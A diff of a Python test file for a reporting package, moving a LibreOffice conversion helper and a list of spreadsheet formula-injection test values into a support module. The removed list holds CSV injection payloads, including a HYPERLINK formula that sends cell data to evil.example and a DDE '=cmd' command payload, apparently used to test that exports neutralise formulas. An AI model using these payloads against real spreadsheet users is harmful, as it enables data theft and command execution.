@@ -5,8 +5,6 @@ import hashlib
 import json
 import os
 import re
-import shutil
-import subprocess
 
 import duckdb
 import numpy as np
@@ -21,6 +19,7 @@ from argyle_nb.report import export_report
 from argyle_nb.report.dictionary import meaning_of
 from argyle_nb.report.page import printable, shortened
 from argyle_nb.scores import REASONS, ScoreCounts, count_scores
+from tests.support.office import FORMULAS, LIBREOFFICE, convert
 from tests.support.records import form, record, scored, supporting, unscored
 
 RECORDS = [
@@ -493,22 +492,6 @@ def test_an_archive_that_nobody_pulled_into_is_an_error_and_no_empty_report(tmp_
 OPENED = ("uploads.csv", "signals.csv", "ocr_fields.csv")
 TEXTS = (*OPENED, "levels.csv", "coverage.csv")
 
-LIBREOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
-FORMULAS = (
-    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(1,1)",
-    "\t=1+1",
-    " =1+1",
-    "\uff1d1+1",
-    "=cmd|'/c calc'!A1",
-    '","=1+1',
-    "x;=1+1",
-    "x\t=1+1",
-    "x\n=1+1;",
-)
 # How spreadsheets of other countries and settings separate: ; and tab.
 SEPARATORS = (44, 59, 9)
 
@@ -577,12 +560,6 @@ def test_duckdb_reads_the_same(formulas):
         shown = duckdb.read_csv(str(path), header=True, all_varchar=True, delimiter=",")
         rows = [[cell or "" for cell in row] for row in shown.fetchall()]
         assert [list(shown.columns), *rows] == by_python(path)
-
-
-def convert(paths, folder, kind, *options):
-    command = [LIBREOFFICE, "--headless", f"-env:UserInstallation=file://{folder}/profile"]
-    command += [*options, "--convert-to", kind, "--outdir", str(folder), *map(str, paths)]
-    subprocess.run(command, check=True, capture_output=True, timeout=600)
 
 
 @pytest.fixture(scope="module")
